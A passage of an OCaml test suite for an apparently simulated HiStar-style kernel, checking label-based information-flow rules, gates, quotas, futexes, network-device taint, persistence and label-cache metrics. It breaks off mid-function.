let test_container_self_entry () =
  in_kernel (fun root ->
      let d =
        Sys.container_create ~container:root ~label:l1 ~quota:65536L "d"
      in
      (* ⟨D,D⟩ works even without naming the parent *)
      let es = Sys.container_list (self_entry d) in
      Alcotest.(check int) "empty" 0 (List.length es))

let test_unref_recursive () =
  in_kernel_k (fun k root ->
      let d = Sys.container_create ~container:root ~label:l1 ~quota:65536L "d" in
      let inner = Sys.container_create ~container:d ~label:l1 ~quota:32768L "i" in
      let seg =
        Sys.segment_create ~container:inner ~label:l1 ~quota:8192L ~len:4 "s"
      in
      let before = Kernel.object_count k in
      Sys.unref (centry root d);
      (* d, inner, seg all gone *)
      Alcotest.(check int) "three objects freed" (before - 3)
        (Kernel.object_count k);
      Alcotest.(check bool) "segment gone" true
        (Kernel.obj_kind k seg = None))

let test_hard_link_keeps_alive () =
  in_kernel_k (fun k root ->
      let d1 = Sys.container_create ~container:root ~label:l1 ~quota:65536L "d1" in
      let d2 = Sys.container_create ~container:root ~label:l1 ~quota:65536L "d2" in
      let seg =
        Sys.segment_create ~container:d1 ~label:l1 ~quota:4096L ~len:4 "s"
      in
      Sys.segment_write (centry d1 seg) "data";
      Sys.set_fixed_quota (centry d1 seg);
      Sys.container_link ~container:d2 ~target:(centry d1 seg);
      Sys.unref (centry root d1);
      (* still reachable through d2 *)
      Alcotest.(check string) "alive via d2" "data"
        (Sys.segment_read (centry d2 seg) ());
      Sys.unref (centry d2 seg);
      Alcotest.(check bool) "now gone" true (Kernel.obj_kind k seg = None))

let test_link_requires_fixed_quota () =
  in_kernel (fun root ->
      let d2 = Sys.container_create ~container:root ~label:l1 ~quota:65536L "d2" in
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:4096L ~len:4 "s"
      in
      expect_error (fun () ->
          Sys.container_link ~container:d2 ~target:(centry root seg)))

let test_quota_exhaustion () =
  in_kernel (fun root ->
      let d =
        Sys.container_create ~container:root ~label:l1 ~quota:4096L "small"
      in
      (* container overhead 512; a segment with quota 8192 can't fit *)
      match
        Sys.segment_create ~container:d ~label:l1 ~quota:8192L ~len:0 "big"
      with
      | _ -> Alcotest.fail "expected quota error"
      | exception Kernel_error (Quota _) -> ())

let test_quota_move () =
  in_kernel (fun root ->
      let d =
        Sys.container_create ~container:root ~label:l1 ~quota:8192L "d"
      in
      let seg =
        Sys.segment_create ~container:d ~label:l1 ~quota:1024L ~len:0 "s"
      in
      (* growing the segment beyond 1024 fails until we move quota in *)
      expect_error (fun () -> Sys.segment_resize (centry d seg) 2048);
      Sys.quota_move ~container:d ~target:seg ~nbytes:4096L;
      Sys.segment_resize (centry d seg) 2048;
      let q, u = Sys.obj_quota (centry d seg) in
      Alcotest.(check int64) "quota" 5120L q;
      Alcotest.(check bool) "usage within" true (Int64.compare u q <= 0))

let test_segment_growth_bounded_by_quota () =
  in_kernel (fun root ->
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:1024L ~len:0 "s"
      in
      match Sys.segment_resize (centry root seg) 100_000 with
      | () -> Alcotest.fail "expected quota error"
      | exception Kernel_error (Quota _) -> ())

let test_avoid_types () =
  in_kernel (fun root ->
      let d =
        Sys.container_create ~avoid:[ Thread ] ~container:root ~label:l1
          ~quota:1_000_000L "no threads"
      in
      (match
         Sys.thread_create ~container:d ~label:l1 ~clearance:l2 ~quota:65536L
           ~name:"t" (fun () -> ())
       with
      | _ -> Alcotest.fail "expected avoid_type error"
      | exception Kernel_error (Avoid_type _) -> ());
      (* inherited by sub-containers *)
      let sub = Sys.container_create ~container:d ~label:l1 ~quota:65536L "sub" in
      match
        Sys.thread_create ~container:sub ~label:l1 ~clearance:l2 ~quota:32768L
          ~name:"t" (fun () -> ())
      with
      | _ -> Alcotest.fail "expected inherited avoid_type error"
      | exception Kernel_error (Avoid_type _) -> ())

(* ---------- threads ---------- *)

let test_thread_label_rules () =
  in_kernel (fun root ->
      (* cannot spawn a thread owning a category we don't own *)
      let foreign = Category.of_int 12345 in
      expect_label_error (fun () ->
          ignore
            (Sys.thread_create ~container:root
               ~label:(l [ (foreign, Level.Star) ] Level.L1)
               ~clearance:l2 ~quota:65536L ~name:"evil" (fun () -> ())));
      (* owning it makes the same spawn legal *)
      let c = Sys.cat_create () in
      let _tid =
        Sys.thread_create ~container:root
          ~label:(l [ (c, Level.Star) ] Level.L1)
          ~clearance:(l [ (c, Level.L3) ] Level.L2)
          ~quota:65536L ~name:"good" (fun () -> ())
      in
      ())

let test_thread_clearance_bound () =
  in_kernel (fun root ->
      (* child clearance must be ⊑ parent clearance *)
      expect_label_error (fun () ->
          ignore
            (Sys.thread_create ~container:root ~label:l1
               ~clearance:(Label.make Level.L3) ~quota:65536L ~name:"over"
               (fun () -> ()))))

let test_alert_wakes () =
  in_kernel (fun root ->
      let asp = Sys.as_create ~container:root ~label:l1 ~quota:4096L "as" in
      let got = ref (-1) in
      let tid =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"waiter" (fun () ->
            Sys.self_set_as (centry root asp);
            got := Sys.wait_alert ())
      in
      Sys.yield ();
      (* waiter is now blocked *)
      Sys.thread_alert (centry root tid) 9;
      join (fun () -> !got >= 0);
      Alcotest.(check int) "alert delivered" 9 !got)

let test_alert_requires_as_write () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      (* AS writable only by owners of c *)
      let asp =
        Sys.as_create ~container:root
          ~label:(l [ (c, Level.L0) ] Level.L1)
          ~quota:4096L "as"
      in
      let tid =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"victim" (fun () -> Sys.yield ())
      in
      (* victim adopts the AS: needs observe only *)
      ignore asp;
      let _attacker =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"attacker" (fun () ->
            expect_error (fun () -> Sys.thread_alert (centry root tid) 9))
      in
      Sys.yield ())

(* ---------- futexes ---------- *)

let test_futex_wait_wake () =
  in_kernel (fun root ->
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:8 "f"
      in
      let ce = centry root seg in
      let order = ref [] in
      let _waiter =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"waiter" (fun () ->
            Sys.futex_wait ce ~off:0 ~expected:0L;
            order := "woke" :: !order)
      in
      Sys.yield ();
      order := "waking" :: !order;
      let n = Sys.futex_wake ce ~off:0 ~count:1 in
      join (fun () -> List.mem "woke" !order);
      Alcotest.(check int) "one woken" 1 n;
      Alcotest.(check (list string)) "ordering" [ "woke"; "waking" ] !order)

let test_futex_value_mismatch_returns () =
  in_kernel (fun root ->
      let seg =
        Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:8 "f"
      in
      let ce = centry root seg in
      let e = Histar_util.Codec.Enc.create () in
      Histar_util.Codec.Enc.i64 e 7L;
      Sys.segment_write ce (Histar_util.Codec.Enc.to_string e);
      (* expected 0 but value is 7: returns immediately *)
      Sys.futex_wait ce ~off:0 ~expected:0L)

(* ---------- gates ---------- *)

let test_gate_grants_privilege () =
  in_kernel (fun root ->
      (* A privileged daemon owns c and exposes a gate granting c. The
         caller picks up ownership by entering with L_R including c⋆ —
         allowed because the gate's label owns c. *)
      let c = Sys.cat_create () in
      let glabel = l [ (c, Level.Star) ] Level.L1 in
      let observed = ref None in
      let gate =
        Sys.gate_create ~container:root ~label:glabel ~clearance:l2
          ~quota:4096L ~name:"grant-c" (fun () ->
            observed := Some (Sys.self_label ());
            Sys.self_halt ())
      in
      let _caller =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"caller" (fun () ->
            Sys.gate_enter ~gate:(centry root gate)
              ~label:(l [ (c, Level.Star) ] Level.L1)
              ~clearance:l2 ())
      in
      join (fun () -> !observed <> None);
      match !observed with
      | Some lbl -> Alcotest.(check bool) "owns c inside gate" true (Label.owns lbl c)
      | None -> Alcotest.fail "gate entry did not run")

let test_gate_cannot_self_grant () =
  in_kernel (fun root ->
      (* entering a gate that does NOT own c cannot yield c⋆ *)
      let gate =
        Sys.gate_create ~container:root ~label:l1 ~clearance:l2 ~quota:4096L
          ~name:"plain" (fun () -> Sys.self_halt ())
      in
      let foreign = Category.of_int 4242 in
      let _caller =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"caller" (fun () ->
            expect_label_error (fun () ->
                Sys.gate_enter ~gate:(centry root gate)
                  ~label:(l [ (foreign, Level.Star) ] Level.L1)
                  ~clearance:l2 ()))
      in
      Sys.yield ())

let test_gate_clearance_gates_invocation () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      (* gate requiring ownership of c to invoke: clearance {c0, 2} *)
      let gate =
        Sys.gate_create ~container:root ~label:l1
          ~clearance:(l [ (c, Level.L0) ] Level.L2)
          ~quota:4096L ~name:"locked" (fun () -> Sys.self_halt ())
      in
      let _outsider =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"outsider" (fun () ->
            (* L_T = {1}: L_T ⊑ {c0,2} fails in category c *)
            expect_label_error (fun () ->
                Sys.gate_enter ~gate:(centry root gate) ~label:l1 ~clearance:l2
                  ()))
      in
      Sys.yield ())

let test_gate_call_round_trip () =
  in_kernel (fun root ->
      (* the timestamped-signature daemon of §5.5, minus the crypto *)
      let service_calls = ref 0 in
      let gate =
        Sys.gate_create ~container:root ~label:l1 ~clearance:l2 ~quota:4096L
          ~name:"sigd" (fun () ->
            incr service_calls;
            let input = Sys.tls_read () in
            Sys.tls_write ("signed:" ^ input);
            match Sys.self_get_return_gate () with
            | Some rg -> Sys.gate_enter ~gate:rg ~label:l1 ~clearance:l2 ()
            | None -> Alcotest.fail "no return gate")
      in
      let answer = ref "" in
      let _caller =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"client" (fun () ->
            Sys.tls_write "doc";
            Sys.gate_call ~gate:(centry root gate) ~label:l1 ~clearance:l2
              ~return_container:root ~return_label:l1 ~return_clearance:l2 ();
            answer := Sys.tls_read ())
      in
      join (fun () -> !answer <> "");
      Alcotest.(check int) "service ran once" 1 !service_calls;
      Alcotest.(check string) "result returned" "signed:doc" !answer)

let test_gate_call_restores_privilege () =
  in_kernel (fun root ->
      let c = Sys.cat_create () in
      let my_label = l [ (c, Level.Star) ] Level.L1 in
      let gate =
        Sys.gate_create ~container:root ~label:l1 ~clearance:l2 ~quota:4096L
          ~name:"svc" (fun () ->
            (* inside the service we do NOT own c *)
            Alcotest.(check bool) "dropped c" false
              (Label.owns (Sys.self_label ()) c);
            match Sys.self_get_return_gate () with
            | Some rg ->
                Sys.gate_enter ~gate:rg ~label:my_label
                  ~clearance:(l [ (c, Level.L3) ] Level.L2)
                  ()
            | None -> Alcotest.fail "no return gate")
      in
      let restored = ref false in
      let _caller =
        Sys.thread_create ~container:root ~label:my_label
          ~clearance:(l [ (c, Level.L3) ] Level.L2)
          ~quota:65536L ~name:"client" (fun () ->
            Sys.gate_call ~gate:(centry root gate) ~label:l1 ~clearance:l2
              ~return_container:root ~return_label:my_label
              ~return_clearance:(l [ (c, Level.L3) ] Level.L2)
              ();
            restored := Label.owns (Sys.self_label ()) c)
      in
      join (fun () -> !restored);
      Alcotest.(check bool) "privilege restored after return" true !restored)

let test_return_gate_single_use () =
  in_kernel (fun root ->
      let saved = ref None in
      let gate =
        Sys.gate_create ~container:root ~label:l1 ~clearance:l2 ~quota:4096L
          ~name:"svc" (fun () ->
            let rg = Option.get (Sys.self_get_return_gate ()) in
            saved := Some rg;
            Sys.gate_enter ~gate:rg ~label:l1 ~clearance:l2 ())
      in
      let _caller =
        Sys.thread_create ~container:root ~label:l1 ~clearance:l2 ~quota:65536L
          ~name:"client" (fun () ->
            Sys.gate_call ~gate:(centry root gate) ~label:l1 ~clearance:l2
              ~return_container:root ~return_label:l1 ~return_clearance:l2 ();
            (* calling the consumed return gate again must fail *)
            expect_error (fun () ->
                Sys.gate_enter ~gate:(Option.get !saved) ~label:l1
                  ~clearance:l2 ()))
      in
      Sys.yield ();
      Sys.yield ();
      Sys.yield ())

(* ---------- devices ---------- *)

let test_netdev_taint () =
  let k = Kernel.create () in
  let root = Kernel.root k in
  let sent = ref [] in
  let i = Category.of_int 777 in
  let dev_label = l [ (i, Level.L2) ] Level.L1 in
  let dev =
    Kernel.attach_netdev k ~container:root ~label:dev_label ~mac:"02:00:00:00:00:01"
      ~transmit:(fun frame -> sent := frame :: !sent)
  in
  let phase = ref [] in
  let _tid =
    Kernel.spawn k ~name:"netd"
      ~label:(l [ (i, Level.L2) ] Level.L1)
      ~clearance:(l [ (i, Level.L2) ] Level.L2)
      (fun () ->
        let ce = centry root dev in
        Alcotest.(check string) "mac" "02:00:00:00:00:01" (Sys.net_mac ce);
        Sys.net_send ce "ping";
        phase := "sent" :: !phase;
        let pkt = Sys.net_recv ce in
        phase := ("got:" ^ pkt) :: !phase)
  in
  Kernel.run k;
  (* thread should now be blocked in net_recv *)
  Alcotest.(check int) "blocked on rx" 1 (Kernel.blocked_count k);
  Kernel.deliver_packet k dev "pong";
  Kernel.run k;
  Alcotest.(check (list string)) "tx seen" [ "ping" ] !sent;
  Alcotest.(check (list string)) "phases" [ "got:pong"; "sent" ] !phase

let test_netdev_untainted_cannot_recv () =
  let k = Kernel.create () in
  let root = Kernel.root k in
  let i = Category.of_int 777 in
  let dev =
    Kernel.attach_netdev k ~container:root
      ~label:(l [ (i, Level.L2) ] Level.L1)
      ~mac:"02:00:00:00:00:02" ~transmit:ignore
  in
  let checked = ref false in
  let _tid =
    Kernel.spawn k ~name:"plain" (fun () ->
        (* untainted thread: reading the device would taint-violate *)
        expect_label_error (fun () -> ignore (Sys.net_recv (centry root dev)));
        checked := true)
  in
  Kernel.run k;
  Alcotest.(check bool) "denied" true !checked

let test_netdev_vpn_tainted_cannot_send () =
  let k = Kernel.create () in
  let root = Kernel.root k in
  let i = Category.of_int 777 and v = Category.of_int 888 in
  let dev =
    Kernel.attach_netdev k ~container:root
      ~label:(l [ (i, Level.L2) ] Level.L1)
      ~mac:"02:00:00:00:00:03" ~transmit:ignore
  in
  let checked = ref false in
  let _tid =
    Kernel.spawn k ~name:"vpn-tainted"
      ~label:(l [ (v, Level.L2) ] Level.L1)
      ~clearance:(l [ (v, Level.L2) ] Level.L2)
      (fun () ->
        (* v-tainted data must not leave via the internet device *)
        expect_label_error (fun () -> Sys.net_send (centry root dev) "secret");
        checked := true)
  in
  Kernel.run k;
  Alcotest.(check bool) "blocked transmission" true !checked

(* ---------- persistence ---------- *)

let mk_store () =
  let clock = Histar_util.Sim_clock.create () in
  let disk =
    Histar_disk.Disk.create
      ~geometry:{ Histar_disk.Disk.sectors = 500_000; sector_bytes = 512 }
      ~clock ()
  in
  (disk, Histar_store.Store.format ~disk ~wal_sectors:1024 ())

let test_checkpoint_recover () =
  let _disk, store = mk_store () in
  let k = Kernel.create ~store () in
  let root = Kernel.root k in
  let seg_id = ref 0L in
  let dir_id = ref 0L in
  let _tid =
    Kernel.spawn k ~name:"init" (fun () ->
        let d = Sys.container_create ~container:root ~label:l1 ~quota:65536L "home" in
        let s = Sys.segment_create ~container:d ~label:l1 ~quota:8192L ~len:5 "file" in
        Sys.segment_write (centry d s) "hello";
        dir_id := d;
        seg_id := s)
  in
  Kernel.run k;
  Kernel.checkpoint k;
  (* "reboot": rebuild from the store *)
  let k' = Kernel.recover ~store in
  Alcotest.(check (option string)) "segment data survives" (Some "hello")
    (Kernel.segment_data k' !seg_id);
  Alcotest.(check bool) "container structure survives" true
    (match Kernel.container_children k' !dir_id with
    | Some kids -> List.mem_assoc !seg_id kids
    | None -> false);
  (* labels survive *)
  Alcotest.(check bool) "label survives" true
    (match Kernel.obj_label k' !seg_id with
    | Some lbl -> Label.equal lbl l1
    | None -> false);
  (* recovered kernel can run new threads against old objects *)
  let root' = Kernel.root k' in
  ignore root';
  let readback = ref "" in
  let _tid =
    Kernel.spawn k' ~name:"reader" (fun () ->
        readback := Sys.segment_read (centry !dir_id !seg_id) ())
  in
  Kernel.run k';
  Alcotest.(check string) "readable after recovery" "hello" !readback

let test_sync_object_path () =
  let _disk, store = mk_store () in
  let k = Kernel.create ~store () in
  let root = Kernel.root k in
  let _tid =
    Kernel.spawn k ~name:"init" (fun () ->
        let s =
          Sys.segment_create ~container:root ~label:l1 ~quota:8192L ~len:4 "f"
        in
        Sys.segment_write (centry root s) "sync";
        Sys.sync_object (centry root s))
  in
  Kernel.run k;
  let st = Histar_store.Store.stats store in
  Alcotest.(check bool) "wal commit happened" true
    (st.Histar_store.Store.wal_commits >= 1)

(* ---------- flow oracle ---------- *)

let prop_flow_oracle =
  QCheck2.Test.make ~name:"every permitted access obeys the flow rules"
    ~count:60
    QCheck2.Gen.(int_range 1 100_000)
    (fun seed ->
      let k = Kernel.create ~seed:(Int64.of_int seed) () in
      let violations = ref [] in
      Kernel.set_trace k
        (Some
           (fun ev ->
             let ok =
               match ev.Kernel.ev_dir with
               | `Observe ->
                   Label.can_observe ~thread:ev.Kernel.ev_thread_label
                     ~obj:ev.Kernel.ev_obj_label
               | `Modify ->
                   Label.can_modify ~thread:ev.Kernel.ev_thread_label
                     ~obj:ev.Kernel.ev_obj_label
             in
             if not ok then violations := ev :: !violations));
      let root = Kernel.root k in
      let rng = Histar_util.Rng.create (Int64.of_int seed) in
      let _tid =
        Kernel.spawn k ~name:"fuzz" (fun () ->
            let cats = Array.init 3 (fun _ -> Sys.cat_create ()) in
            (* drop ownership of a random subset by spawning children *)
            let segs = ref [] in
            for _ = 1 to 30 do
              let c = cats.(Histar_util.Rng.int rng 3) in
              let lv =
                match Histar_util.Rng.int rng 4 with
                | 0 -> Level.L0
                | 1 -> Level.L1
                | 2 -> Level.L2
                | _ -> Level.L3
              in
              let lbl = l [ (c, lv) ] Level.L1 in
              match
                Sys.segment_create ~container:root ~label:lbl ~quota:4096L
                  ~len:8 "fz"
              with
              | s -> segs := s :: !segs
              | exception Kernel_error _ -> ()
            done;
            (* children with random labels try random accesses *)
            for _ = 1 to 10 do
              let c = cats.(Histar_util.Rng.int rng 3) in
              let taint = Histar_util.Rng.bool rng in
              let lbl = if taint then l [ (c, Level.L3) ] Level.L1 else l1 in
              let clr = if taint then l [ (c, Level.L3) ] Level.L2 else l2 in
              let segs' = !segs in
              match
                Sys.thread_create ~container:root ~label:lbl ~clearance:clr
                  ~quota:65536L ~name:"fz-child" (fun () ->
                    List.iter
                      (fun s ->
                        let ce = centry root s in
                        (try ignore (Sys.segment_read ce ())
                         with Kernel_error _ -> ());
                        try Sys.segment_write ce "xxxxxxxx"
                        with Kernel_error _ -> ())
                      segs')
              with
              | _ -> ()
              | exception Kernel_error _ -> ()
            done)
      in
      Kernel.run k;
      !violations = [])

(* ---------- label cache & observability ---------- *)

module Metrics = Histar_metrics.Metrics
module Label_cache = Histar_core.Label_cache
module Check = Histar_check.Check
module Gen = Histar_check.Gen

let contains s sub =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.sub s i m = sub || go (i + 1)) in
  m = 0 || go 0

(* Labels over a small category pool so generated pairs actually share
   categories (otherwise every comparison degenerates to defaults). *)
let gen_label =
  let open Gen in
  let entry =
    pair (int_range 1 5)
      (choose [ Level.Star; Level.L0; Level.L1; Level.L2; Level.L3 ])
  in
  let* entries = list entry in
  let* d = choose [ Level.L0; Level.L1; Level.L2; Level.L3 ] in
  let dedup =
    List.fold_left
      (fun acc (c, lv) -> if List.mem_assoc c acc then acc else (c, lv) :: acc)
      [] entries
  in
  return (Label.of_list (List.map (fun (c, lv) -> (Category.of_int c, lv)) dedup) d)

let print_label_pairs ps =
  String.concat "; "
    (List.map
       (fun (t, o) -> Label.to_string t ^ " vs " ^ Label.to_string o)
       ps)

(* Differential: the memoized cache must agree with the uncached
   relations on both the miss path and the hit path, and its metrics
   must account for every lookup and every denial — in both accounting
   modes. With elision off, every lookup is a [label.checks]; with
   elision on, hits reclassify as [label.elided] (checks = misses,
   elided = hits, checks + elided = lookups) while denials are
   identical. A tiny bound forces wholesale clears mid-sequence. *)
let prop_label_cache_differential pairs =
  let run_mode ~elide =
    let cache = Label_cache.create ~bound:8 ~elide () in
    let checks0 = Metrics.counter_value "label.checks" in
    let elided0 = Metrics.counter_value "label.elided" in
    let denied0 = Metrics.counter_value "label.denied" in
    let denials = ref 0 in
    List.iter
      (fun (t, o) ->
        let want_obs = Label.can_observe ~thread:t ~obj:o in
        let want_mod = Label.can_modify ~thread:t ~obj:o in
        for _ = 1 to 2 do
          Check.ensure ~msg:"cached observe differs from Label.can_observe"
            (Label_cache.observe cache ~thread:t ~obj:o = want_obs);
          Check.ensure ~msg:"cached modify differs from Label.can_modify"
            (Label_cache.modify cache ~thread:t ~obj:o = want_mod);
          if not want_obs then incr denials;
          if not want_mod then incr denials
        done)
      pairs;
    ( Metrics.counter_value "label.checks" - checks0,
      Metrics.counter_value "label.elided" - elided0,
      Metrics.counter_value "label.denied" - denied0,
      !denials,
      Label_cache.hits cache,
      Label_cache.misses cache )
  in
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect
    ~finally:(fun () -> Metrics.set_enabled was)
    (fun () ->
      let lookups = 4 * List.length pairs in
      let checks, elided, denied, denials, _, _ = run_mode ~elide:false in
      Check.ensure ~msg:"no-elide: label.checks missed lookups"
        (checks = lookups);
      Check.ensure ~msg:"no-elide: label.elided must stay zero" (elided = 0);
      Check.ensure ~msg:"no-elide: label.denied missed denials"
        (denied = denials);
      let checks, elided, denied, denials, hits, misses =
        run_mode ~elide:true
      in
      Check.ensure ~msg:"elide: checks + elided must cover every lookup"
        (checks + elided = lookups);
      Check.ensure ~msg:"elide: label.checks must equal cache misses"
        (checks = misses);
      Check.ensure ~msg:"elide: label.elided must equal cache hits"
        (elided = hits);
      Check.ensure ~msg:"elide: label.denied missed denials"
        (denied = denials))

(* After a thread picks up ownership of c through a gate, the same
   (thread, object) comparison must flip from denied to allowed — the
   cache keys on the thread's label, so the pre-transfer denial must
   not be served stale. *)
let test_label_cache_gate_transfer () =
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  let got = ref None in
  let denied_before = ref (-1) in
  let denied_after_denial = ref (-1) in
  Fun.protect
    ~finally:(fun () -> Metrics.set_enabled was)
    (fun () ->
      in_kernel (fun root ->
          let c = Sys.cat_create () in
          let secret =
            Sys.segment_create ~container:root
              ~label:(l [ (c, Level.L3) ] Level.L1)
              ~quota:8192L ~len:6 "secret"
          in
          Sys.segment_write (centry root secret) "sealed";
          let gate =
            Sys.gate_create ~container:root
              ~label:(l [ (c, Level.Star) ] Level.L1)
              ~clearance:l2 ~quota:4096L ~name:"grant-c" (fun () ->
                got := Some (Sys.segment_read (centry root secret) ());
                Sys.self_halt ())
          in
          let _reader =
            Sys.thread_create ~container:root ~label:l1 ~clearance:l2
              ~quota:65536L ~name:"reader" (fun () ->
                denied_before := Metrics.counter_value "label.denied";
                expect_label_error (fun () ->
                    ignore (Sys.segment_read (centry root secret) ()));
                denied_after_denial := Metrics.counter_value "label.denied";
                Sys.gate_enter ~gate:(centry root gate)
                  ~label:(l [ (c, Level.Star) ] Level.L1)
                  ~clearance:l2 ())
          in
          join (fun () -> !got <> None)));
  Alcotest.(check bool)
    "denied read hit the label.denied counter" true
    (!denied_after_denial > !denied_before);
  Alcotest.(check (option string))
    "read allowed after ownership transfer" (Some "sealed") !got

(* The gate invocation error path: a caller without clearance must get
   the specific clearance-check failure, and the kernel must account
   for it in both label.denied and kernel.syscall_label_errors. *)
let test_gate_denied_message_and_counters () =
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  let msg = ref "" in
  let d0 = ref (-1) and e0 = ref (-1) in
  Fun.protect
    ~finally:(fun () -> Metrics.set_enabled was)
    (fun () ->
      in_kernel (fun root ->
          let c = Sys.cat_create () in
          let gate =
            Sys.gate_create ~container:root ~label:l1
              ~clearance:(l [ (c, Level.L0) ] Level.L2)
              ~quota:4096L ~name:"locked" (fun () -> Sys.self_halt ())
          in
          let _outsider =
            Sys.thread_create ~container:root ~label:l1 ~clearance:l2
              ~quota:65536L ~name:"outsider" (fun () ->
                d0 := Metrics.counter_value "label.denied";
                e0 := Metrics.counter_value "kernel.syscall_label_errors";
                match
                  Sys.gate_enter ~gate:(centry root gate) ~label:l1
                    ~clearance:l2 ()
                with
                | () -> ()
                | exception Kernel_error (Label_check m) -> msg := m)
          in
          join (fun () -> !msg <> ""));
      Alcotest.(check bool)
        "error names the clearance check (not ⊑ C_G)" true
        (contains !msg "not ⊑ C_G");
      Alcotest.(check bool)
        "label.denied incremented" true
        (Metrics.counter_value "label.denied" > !d0);
      Alcotest.(check bool)
        "kernel.syscall_label_errors incremented" true
        (Metrics.counter_value "kernel.syscall_label_errors" > !e0))

(* ---------- label-check elision: per-gate flow summaries ----------

   Repeat gate invocations with an unchanged thread (same label epoch)
   and an unchanged requested triple are answered from the gate's flow
   summary, counted as [label.elided]. Anything that changes a
   thread's label or clearance — ownership transfer through a gate,
   category allocation, dropping a ⋆ — bumps the kernel's label epoch
   and invalidates every summary, so post-transfer checks are
   recomputed, never served stale. *)

module Profile = Histar_core.Profile

let in_kernel_elide ~elide f =
  let k = Kernel.create ~elide () in
  let result = ref None in
  let _tid =
    Kernel.spawn k ~name:"test" (fun () -> result := Some (f k (Kernel.root k)))
  in
  Kernel.run k;
  match !result with
  | Some v -> v
  | None -> Alcotest.fail "test thread did not complete"

let call_gate root gate ~label =
  Sys.gate_call ~gate:(centry root gate) ~label ~clearance:l2
    ~return_container:root
    ~return_label:(Sys.self_label ())
    ~return_clearance:(Sys.self_clearance ()) ()

let with_metrics f =
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled was) f

let test_gate_summary_elides_repeat_calls () =
  with_metrics (fun () ->
      in_kernel_elide ~elide:true (fun k root ->
          let gate =
            Sys.gate_create ~container:root ~label:l1 ~clearance:l2
              ~quota:4096L ~name:"svc" (fun () -> Sys.gate_return ())
          in
          call_gate root gate ~label:l1;
          Alcotest.(check bool) "summary recorded after first call" true
            (Kernel.gate_summary_count k >= 1);
          let e0 = Metrics.counter_value "label.elided" in
          let c0 = Metrics.counter_value "label.checks" in
          call_gate root gate ~label:l1;
          Alcotest.(check bool) "repeat call served from the summary" true
            (Metrics.counter_value "label.elided" > e0);
          (* the per-call return gate is fresh each time, so its check
             still runs — but strictly fewer checks than a naive call *)
          ignore c0))

let test_summary_invalidated_on_ownership_transfer () =
  with_metrics (fun () ->
      let got = ref false in
      let elided = ref 0 in
      let inv_before = ref (-1) in
      let inv_after = ref (-1) in
      in_kernel_elide ~elide:true (fun _k root ->
          let c = Sys.cat_create () in
          let svc =
            Sys.gate_create ~container:root ~label:l1 ~clearance:l2
              ~quota:4096L ~name:"svc" (fun () -> Sys.gate_return ())
          in
          let grant =
            Sys.gate_create ~container:root
              ~label:(l [ (c, Level.Star) ] Level.L1)
              ~clearance:l2 ~quota:4096L ~name:"grant-c" (fun () ->
                got := true;
                Sys.self_halt ())
          in
          let _reader =
            Sys.thread_create ~container:root ~label:l1 ~clearance:l2
              ~quota:65536L ~name:"reader" (fun () ->
                call_gate root svc ~label:l1;
                let e0 = Metrics.counter_value "label.elided" in
                call_gate root svc ~label:l1;
                elided := Metrics.counter_value "label.elided" - e0;
                inv_before :=
                  Metrics.counter_value "label.summary_invalidations";
                (* picking up c⋆ through the gate changes this thread's
                   label: every summary must die with the old epoch *)
                Sys.gate_enter ~gate:(centry root grant)
                  ~label:(l [ (c, Level.Star) ] Level.L1)
                  ~clearance:l2 ())
          in
          join (fun () -> !got);
          inv_after := Metrics.counter_value "label.summary_invalidations";
          Alcotest.(check bool) "repeat call before transfer elided" true
            (!elided > 0);
          Alcotest.(check bool)
            "ownership transfer invalidated the summaries" true
            (!inv_after > !inv_before)))

let test_summary_invalidated_on_category_gc () =
  with_metrics (fun () ->
      in_kernel_elide ~elide:true (fun k root ->
          let c = Sys.cat_create () in
          let owned = l [ (c, Level.Star) ] Level.L1 in
          let svc =
            Sys.gate_create ~container:root ~label:l1 ~clearance:l2
              ~quota:4096L ~name:"svc" (fun () -> Sys.gate_return ())
          in
          (* requesting c⋆ is only legal while the thread owns c *)
          call_gate root svc ~label:owned;
          let e0 = Metrics.counter_value "label.elided" in
          call_gate root svc ~label:owned;
          Alcotest.(check bool) "repeat owned call elided" true
            (Metrics.counter_value "label.elided" > e0);
          let epoch0 = Kernel.label_epoch k in
          let inv0 = Metrics.counter_value "label.summary_invalidations" in
          (* drop the last ⋆ for c: the category is dead (GC), and the
             summarized pass for [owned] must not survive it *)
          Sys.self_set_label l1;
          Alcotest.(check bool) "label epoch advanced" true
            (Kernel.label_epoch k > epoch0);
          Alcotest.(check bool) "category GC invalidated the summaries" true
            (Metrics.counter_value "label.summary_invalidations" > inv0);
          expect_label_error (fun () -> call_gate root svc ~label:owned)))

(* §6.2 gate login in miniature, run with elision on and off: the two
   kernels must produce byte-identical syscall results, identical
   syscall profiles, and the same number of [label.denied] events —
   only the checks/elided accounting split may differ. *)
let run_login_scenario ~elide =
  let k = Kernel.create ~elide () in
  let events = ref [] in
  let push e = events := e :: !events in
  let denied0 = ref 0 and denied1 = ref 0 and finished = ref false in
  let _tid =
    Kernel.spawn k ~name:"init" (fun () ->
        let root = Kernel.root k in
        let u = Sys.cat_create () in
        let secret =
          Sys.segment_create ~container:root
            ~label:(l [ (u, Level.L3) ] Level.L1)
            ~quota:8192L ~len:10 "secret"
        in
        Sys.segment_write (centry root secret) "bob-secret";
        let svc =
          Sys.gate_create ~container:root ~label:l1 ~clearance:l2 ~quota:4096L
